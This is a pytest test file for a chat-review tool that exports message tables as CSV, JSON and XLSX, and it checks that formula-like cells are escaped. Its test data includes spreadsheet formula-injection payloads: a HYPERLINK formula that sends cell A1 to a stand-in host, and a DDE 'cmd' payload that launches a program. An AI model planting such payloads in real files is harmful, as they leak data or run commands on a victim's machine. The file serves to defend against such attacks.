"""The message table's writers: CSV, JSON and XLSX produced in chunks from the message frame."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from chat_review import table_export
from chat_review.errors import OutputError
from chat_review.reader.chat import KINDS, MESSAGE_COLUMNS, Chat, ChatMetadata

# (a message's text, its CSV cell): a spreadsheet would run a cell starting = + - @ tab or
# carriage return as a formula, so that cell (and only that) gets a leading apostrophe.
TRICKY_CELLS = [
    ("plain words", "plain words"),
    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
    ("+44 7700 900123 rang", "'+44 7700 900123 rang"),
    ("-1 from me", "'-1 from me"),
    ("@Mrs Okafor please", "'@Mrs Okafor please"),
    ("\tindented", "'\tindented"),
    ("\rcarriage first", "'\rcarriage first"),
    ('she said "no", twice', 'she said "no", twice'),
    ("line one\nline two, with a comma", "line one\nline two, with a comma"),
    ("ends with a return\r", "ends with a return\r"),
    ("Zoë Ångström 🦔", "Zoë Ångström 🦔"),
    ("_x0041_ is not an A", "_x0041_ is not an A"),
    ("", ""),
]
TRICKY = [text for text, _ in TRICKY_CELLS]


def make_chat(texts: list[str], *, senders: list[str | None] | None = None,
              start: str = "2026-09-01 07:59:30") -> Chat:
    n = len(texts)
    senders = senders or [None if i == 0 else f"Parent {i}" for i in range(n)]
    frame = pd.DataFrame({
        "timestamp": pd.Series(pd.date_range(start, periods=n, freq="37min"),
                               dtype="datetime64[ns]"),
        "sender": pd.Series(senders, dtype="string"),
        "kind": pd.Categorical(["system"] + ["text"] * (n - 1), categories=KINDS),
        "text": pd.Series(texts, dtype="string"),
        "edited": np.arange(n) % 3 == 1,
        "attachment": pd.Series([None] * (n - 1) + ["IMG-0001.jpg"], dtype="string"),
        "line": np.arange(1, n + 1, dtype=np.int64) * 2,
    })
    meta = ChatMetadata("chat.txt", "0" * 64, "android", "day-first", "day above 12", False,
                        "utf-8", "txt", consent_id=7)
    return Chat(frame, meta)


def csv_rows(chat: Chat) -> list[list[str]]:
    data = b"".join(table_export.messages_csv_chunks(chat))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_timestamps_are_iso_8601_like_strftime_including_before_1970_and_missing():
    values = pd.Series(pd.to_datetime(["2026-03-29 00:59:59", "1969-12-31 23:00:01",
                                       "2000-02-29 12:00:00", None]))
    assert table_export.iso_timestamps(values) == [
        "2026-03-29T00:59:59", "1969-12-31T23:00:01", "2000-02-29T12:00:00", ""]


def test_csv_starts_with_a_byte_order_mark_and_ends_rows_with_crlf():
    data = b"".join(table_export.messages_csv_chunks(make_chat(["a", "b"])))
    assert data.startswith(b"\xef\xbb\xbftimestamp,sender,kind,text,edited,attachment,line\r\n")
    assert data.count(b"\r\n") == 3 and data.replace(b"\r\n", b"").count(b"\n") == 0


def test_csv_cells_that_would_be_formulas_get_an_apostrophe_and_nothing_else_changes():
    rows = csv_rows(make_chat(TRICKY))
    assert [r[3] for r in rows[1:]] == [cell for _, cell in TRICKY_CELLS]


def test_csv_escapes_a_sender_that_is_a_formula():
    chat = make_chat(["x", "hello"], senders=[None, "=cmd|' /C calc'!A0"])
    assert csv_rows(chat)[2][1] == "'=cmd|' /C calc'!A0"


def test_csv_row_values_match_the_message_table():
    chat = make_chat(["joined", "hi"])
    assert csv_rows(chat) == [
        MESSAGE_COLUMNS,
        ["2026-09-01T07:59:30", "", "system", "joined", "False", "", "2"],
        ["2026-09-01T08:36:30", "Parent 1", "text", "hi", "True", "IMG-0001.jpg", "4"],
    ]


def test_csv_is_the_same_across_chunk_boundaries(monkeypatch):
    chat = make_chat(TRICKY * 5)
    whole = b"".join(table_export.messages_csv_chunks(chat))
    monkeypatch.setattr(table_export, "CHUNK_ROWS", 7)
    chunks = list(table_export.messages_csv_chunks(chat))
    assert len(chunks) > 5 and b"".join(chunks) == whole


def test_json_keeps_every_text_exactly_and_reads_as_one_document(monkeypatch):
    monkeypatch.setattr(table_export, "CHUNK_ROWS", 5)
    chat = make_chat(TRICKY)
    doc = json.loads(b"".join(table_export.messages_json_chunks(chat)))
    assert doc["chat"]["consent_id"] == 7 and doc["chat"]["platform"] == "android"
    assert [m["text"] for m in doc["messages"]] == TRICKY
    assert doc["messages"][0] == {"timestamp": "2026-09-01T07:59:30", "sender": None,
                                  "kind": "system", "text": "plain words", "edited": False,
                                  "attachment": None, "line": 2}
    assert doc["messages"][-1]["attachment"] == "IMG-0001.jpg"


def test_json_of_an_empty_table_is_valid():
    chat = make_chat(["only"])
    chat.messages = chat.messages.iloc[:0]
    assert json.loads(b"".join(table_export.messages_json_chunks(chat)))["messages"] == []


def as_excel_shows(value: str | None) -> str:
    """openpyxl leaves OOXML's _xHHHH_ escapes (control characters, a literal "_x") as they
    are; Excel decodes them."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value or "")


def read_xlsx(chat: Chat, tmp_path) -> openpyxl.Workbook:
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"".join(table_export.messages_xlsx_chunks(chat, tmp_path)))
    return openpyxl.load_workbook(path)


def test_xlsx_cells_are_text_dates_are_dates_and_nothing_is_a_formula(tmp_path):
    book = read_xlsx(make_chat(TRICKY), tmp_path)
    sheet = book["Messages"]
    header = [c.value for c in sheet[1]]
    assert header == MESSAGE_COLUMNS
    texts = [sheet.cell(row=r, column=4) for r in range(2, len(TRICKY) + 2)]
    assert all(c.data_type == "s" for c in texts if c.value is not None)
    assert [as_excel_shows(c.value) for c in texts] == TRICKY
    assert sheet.cell(row=2, column=1).value == datetime(2026, 9, 1, 7, 59, 30)
    assert sheet.cell(row=2, column=1).is_date
    assert sheet.cell(row=3, column=2).value == "Parent 1"
    assert sheet.cell(row=2, column=2).value is None  # system event: no sender
    assert sheet.cell(row=3, column=5).value is True
    assert sheet.cell(row=3, column=7).value == 4
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_says_how_the_export_was_read(tmp_path):
    about = read_xlsx(make_chat(["a", "b"]), tmp_path)["About this table"]
    values = {row[0].value: row[1].value for row in about.iter_rows()}
    assert values["platform"] == "android" and values["date_order_rule"] == "day above 12"
    assert values["consent_id"] == "7"


def test_xlsx_refuses_more_rows_than_a_sheet_holds(monkeypatch):
    monkeypatch.setattr(table_export, "XLSX_MAX_ROWS", 2)
    with pytest.raises(OutputError, match="at most 2"):
        table_export.check_xlsx(make_chat(["a", "b", "c"]))


def test_long_texts_counts_messages_longer_than_an_excel_cell():
    chat = make_chat(["x", "y" * 32_767, "z" * 32_768])
    assert table_export.long_texts(chat) == 1
